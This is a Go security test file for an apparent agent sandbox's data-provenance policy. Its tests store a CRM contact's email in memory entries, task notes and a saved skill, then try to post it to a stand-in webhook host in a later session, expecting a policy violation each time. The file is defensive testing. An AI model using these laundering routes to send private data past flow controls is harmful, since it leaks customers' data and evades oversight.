package security

import (
	"strings"
	"testing"
)

// TestStoreChannelsKeepProvenance (issue 19, third round, a1: "anything
// else of the store a program can write"): a crm value written by
// memory.update over a plain memory, and as a task's note, read back in
// a new session, stays crm's.
func TestStoreChannelsKeepProvenance(t *testing.T) {
	t.Parallel()
	s := ruled(t)
	post := func(expr string) string {
		return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); "SENT"`
	}
	first := s.open(t, aliceToken)
	if rec := first.run(`const m = await memory.remember({content: "plain thing one"}); const k = await memory.task_add({content: "plain task"});
const c = await crm.get_contact({id: "c_8812"});
await memory.update({id: m.id, content: "now " + c.email, metadata: {m: c.email}});
await memory.task_update({id: k.id, note: "note " + c.email}); 1`); rec.Status != "ok" {
		t.Fatalf("write: %.600s", rec.raw)
	}
	later := s.open(t, aliceToken)
	for _, tc := range []struct{ name, code string }{
		{"memory.update", `const r = await memory.get({id: 1}); ` + post("JSON.stringify(r)")},
		{"task note", `const r = await memory.task_list({}); ` + post("JSON.stringify(r)")},
	} {
		if rec := later.run(tc.code); !strings.Contains(rec.raw, "policy_violation") {
			t.Errorf("laundered through %s, or not read: %.400s", tc.name, rec.raw)
		}
	}
}

// TestSkillKeepsProvenance (issue 19, third round, a1: skills): a crm
// value saved into a skill's code, returned by the skill in a new
// session, reached http.post_webhook despite the rule crm.* → http.*.
// The store keeps the sources a skill was saved from (memory.Skill's
// provenance, branch sec3), and a skill's call tells the run's flow that
// its result holds data of them (engine's resultSources).
func TestSkillKeepsProvenance(t *testing.T) {
	t.Parallel()
	s := ruled(t)
	post := func(expr string) string {
		return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); "SENT"`
	}
	first := s.open(t, aliceToken)
	if rec := first.run(`const c = await crm.get_contact({id: "c_8812"});
await skills.save({name: "lit", description: "a constant", code: "return " + JSON.stringify(c.email)});
await skills.save({name: "plain", description: "a constant", code: "return 'no crm here'"}); 1`); rec.Status != "ok" {
		t.Fatalf("save: %.600s", rec.raw)
	}
	later := s.open(t, aliceToken)
	if rec := later.run(post("await skills.lit({})")); !strings.Contains(rec.raw, "policy_violation") {
		t.Errorf("a crm value laundered through a skill's code reached http: %.400s", rec.raw)
	}
	if rec := later.run(post("await skills.plain({})")); string(rec.Result) != `"SENT"` {
		t.Errorf("a skill's value of no source was stopped: %.400s", rec.raw)
	}
}
